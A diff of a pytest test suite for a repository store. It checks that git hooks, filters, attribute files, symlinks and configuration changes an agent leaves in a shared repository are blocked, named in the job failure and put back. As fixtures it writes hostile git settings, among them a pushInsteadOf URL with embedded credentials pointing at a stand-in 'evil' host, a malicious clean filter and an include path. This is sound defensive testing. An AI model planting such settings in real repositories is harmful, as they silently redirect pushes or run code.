@@ -7,7 +7,7 @@ import pytest
 
 from agent_core.domain.errors import RepoStoreError
 from agent_core.ports import Worktree
-from tests.contracts.repo_store import ACME, FAR_FUTURE, NOON
+from tests.contracts.repo_store import ACME, FAR_FUTURE, NOON, allow
 from tests.integration.git_origins import GitStage
 
 HOOKS = [
@@ -99,24 +99,35 @@ async def opened(stage: GitStage, job_id: str = "job-1", branch: str = "feature/
     return await stage.store.open_worktree(ACME, job_id, branch, "main")
 
 
-async def whole_life(stage: GitStage, worktree: Worktree) -> None:
+async def published(stage: GitStage, worktree: Worktree) -> str:
+    """Publish and return the commit; for a repository that was changed, what the refusal says."""
+    try:
+        return (await stage.store.publish(worktree, "Work", NOON, allow)).commit_sha
+    except RepoStoreError as error:
+        if error.code != "repository_tampered":
+            raise
+        return str(error)
+
+
+async def whole_life(stage: GitStage, worktree: Worktree) -> str:
     """Everything that the server does after an agent had its way, and everything for the job after it."""
     store = stage.store
-    await store.keep(worktree, "Kept", NOON)
-    published = await store.publish(worktree, "Work", NOON)
+    assert await store.keep(worktree, "Kept", NOON)
+    first = await published(stage, worktree)
     await store.refresh(ACME)
     beside = await store.open_worktree(ACME, "job-2", "feature/y", "main")
     stage.edit(beside, "a.txt", "beside\n")
-    await store.publish(beside, "Work", NOON)
+    await store.publish(beside, "Work", NOON, allow)
     again = await store.open_worktree(ACME, worktree.job_id, worktree.branch, "main")
-    assert (await store.publish(again, "Work", NOON)) == published
+    assert await published(stage, again) == first
     await store.close_worktree(ACME, "job-2")
     await store.close_worktree(ACME, worktree.job_id)
     await store.sweep((), FAR_FUTURE)
     await stage.new_store().refresh(ACME)
+    return first
 
 
-async def test_hostile_configuration_hooks_and_attributes_of_the_shared_repository_do_not_run(
+async def test_hooks_filters_and_redirections_left_in_the_shared_repository_do_not_run_and_fail_the_job(
     stage: GitStage, trap: Trap, caplog: pytest.LogCaptureFixture
 ) -> None:
     worktree = await opened(stage)
@@ -130,10 +141,13 @@ async def test_hostile_configuration_hooks_and_attributes_of_the_shared_reposito
     (stage.bare / "info" / "attributes").write_text("* filter=evil diff=evil\n")
     trap.set_hooks(stage.bare / "hooks")
     stage.edit(worktree, "a.txt", "changed\n")
-    await whole_life(stage, worktree)
+    told = await whole_life(stage, worktree)
     assert trap.sprung() == ""
-    assert stage.files_at_origin("feature/x")["a.txt"] == "changed\n"
+    assert stage.tip("feature/x") is None
     assert stage.files_at_origin("feature/y")["a.txt"] == "beside\n"
+    for named in ("commit.gpgsign", "core.hookspath", "config.worktree", "hooks/"):
+        assert named in told
+    assert str(trap.program) not in told
     assert (stage.bare / "config").read_text() == clean
     assert not (stage.bare / "config.worktree").exists()
     assert not (stage.bare / "info" / "attributes").exists()
@@ -165,14 +179,14 @@ async def test_links_in_place_of_the_shared_files_are_replaced_and_not_followed(
         (victim / "attributes").write_text("precious\n")
     (stage.bare / shared).symlink_to(victim)
     stage.edit(worktree, "a.txt", "changed\n")
-    await whole_life(stage, worktree)
+    told = await whole_life(stage, worktree)
     precious = victim if shared == "config" else victim / "attributes"
     assert precious.read_text() == "precious\n"
-    assert stage.files_at_origin("feature/x")["a.txt"] == "changed\n"
+    assert (f"share: {shared}." in told) == (shared != "info")
 
 
 @pytest.mark.parametrize("shape", ["repository", "pointer", "link", "missing", "fifo"])
-async def test_a_forged_git_directory_of_the_worktree_does_not_count(
+async def test_a_rewritten_git_directory_of_the_worktree_does_not_count(
     stage: GitStage, trap: Trap, tmp_path: Path, shape: str
 ) -> None:
     worktree = await opened(stage)
@@ -201,7 +215,7 @@ async def test_a_forged_git_directory_of_the_worktree_does_not_count(
     }
 
 
-async def test_git_is_kept_out_of_a_hostile_nested_repository(stage: GitStage, trap: Trap) -> None:
+async def test_a_hostile_nested_repository_is_refused_and_git_kept_out_of_it(stage: GitStage, trap: Trap) -> None:
     worktree = await opened(stage)
     nested = worktree.path / "nested"
     stage.git("init", "-q", str(nested))
@@ -213,13 +227,71 @@ async def test_git_is_kept_out_of_a_hostile_nested_repository(stage: GitStage, t
     stage.edit(worktree, "a.txt", "changed\n")
     for _ in range(2):
         with pytest.raises(RepoStoreError) as caught:
-            await stage.store.publish(worktree, "Work", NOON)
-        assert caught.value.code == "nested_repository"
+            await stage.store.publish(worktree, "Work", NOON, allow)
+        assert caught.value.code == "blocked_by_policy"
         assert "'nested'" in str(caught.value)
         ref = await stage.store.keep(worktree, "Kept", NOON)
     assert ref is not None
     assert stage.kept(ref)["a.txt"] == "changed\n"
     assert trap.sprung() == ""
+
+
+@pytest.mark.parametrize(
+    ("change", "named"),
+    [
+        ('[url "https://me:hush@evil/"]\n\tpushInsteadOf = git@github.com:\n', "url.https://evil/.pushinsteadof"),
+        ('[filter "x"]\n\tclean = evil\n', "filter.x.clean"),
+        ("[core]\n\thooksPath = .husky\n", "core.hookspath"),
+        ("[include]\n\tpath = /tmp/evil\n", "include.path"),
+        ('[remote "origin"]\n\turl = elsewhere\n', "remote.origin.url"),
+        ("[core]\n\tbare\n", "core.bare"),
+        ("[core\n", "config"),
+    ],
+)
+async def test_a_changed_configuration_fails_the_job_by_the_names_of_its_keys_alone(
+    stage: GitStage, change: str, named: str
+) -> None:
+    worktree = await opened(stage)
+    clean = (stage.bare / "config").read_text()
+    with (stage.bare / "config").open("a") as config:
+        config.write(change)
+    stage.edit(worktree, "a.txt", "changed\n")
+    told = await published(stage, worktree)
+    assert f"share: config ({named})." in told or (named == "config" and "share: config." in told)
+    assert "hush" not in told
+    assert (stage.bare / "config").read_text() == clean
+
+
+async def test_what_agents_configure_day_by_day_is_put_back_and_fails_no_job(
+    stage: GitStage, caplog: pytest.LogCaptureFixture
+) -> None:
+    worktree = await opened(stage)
+    clean = (stage.bare / "config").read_text()
+    stage.git("config", "user.email", "agent@example.com", at=worktree.path)
+    stage.git("checkout", "-q", "-b", "mine", "--track", "feature/x", at=worktree.path)
+    stage.edit(worktree, "a.txt", "changed\n")
+    assert await published(stage, worktree) == stage.tip("feature/x")
+    assert (stage.bare / "config").read_text() == clean
+    assert "branch.mine.merge, branch.mine.remote, user.email" in caplog.text
+
+
+async def test_a_change_found_before_the_server_died_still_fails_the_job_after_it(stage: GitStage) -> None:
+    worktree = await opened(stage)
+    stage.edit(worktree, "a.txt", "changed\n")
+    stage.tamper()
+    await stage.store.refresh(ACME)
+    stage.store = stage.new_store()
+    assert "hooks/pre-push" in await published(stage, worktree)
+
+
+async def test_a_change_that_is_found_when_a_failed_job_is_wound_up_is_put_back_with_a_warning(
+    stage: GitStage, caplog: pytest.LogCaptureFixture
+) -> None:
+    worktree = await opened(stage)
+    stage.tamper()
+    await stage.store.close_worktree(ACME, worktree.job_id)
+    assert not (stage.bare / "hooks" / "pre-push").exists()
+    assert "put back: hooks/pre-push" in caplog.text
 
 
 @pytest.mark.parametrize("bumped", [False, True])
@@ -236,7 +308,7 @@ async def test_git_is_kept_out_of_a_hostile_submodule(stage: GitStage, trap: Tra
     with (sub / ".git" / "config").open("a") as config:
         config.write(trap.config)
     (sub / "a.txt").write_text("two\n")  # of the same size, so that git would have to look into it
-    published = await stage.store.publish(worktree, "Bump", NOON)
+    published = await stage.store.publish(worktree, "Bump", NOON, allow)
     assert trap.sprung() == ""
     assert published.changed is bumped
     if bumped:
@@ -250,7 +322,7 @@ async def test_a_worktree_replaced_by_a_link_is_lost(stage: GitStage, tmp_path: 
     worktree.path.rename(tmp_path / "aside")
     worktree.path.symlink_to(tmp_path / "private-things")
     with pytest.raises(RepoStoreError) as caught:
-        await stage.store.publish(worktree, "Work", NOON)
+        await stage.store.publish(worktree, "Work", NOON, allow)
     assert caught.value.code == "worktree_lost"
     await stage.store.close_worktree(ACME, "job-1")
     await stage.store.sweep((), FAR_FUTURE)
@@ -262,7 +334,7 @@ async def test_filters_of_the_operators_own_configuration_do_run(stage: GitStage
     worktree = await opened(stage)
     assert stage.files(worktree)["a.txt"] == "one\n"
     stage.edit(worktree, "a.txt", "changed\n")
-    await stage.store.publish(worktree, "Work", NOON)
+    await stage.store.publish(worktree, "Work", NOON, allow)
     assert stage.files_at_origin("feature/x")["a.txt"] == "CHANGED\n"
 
 
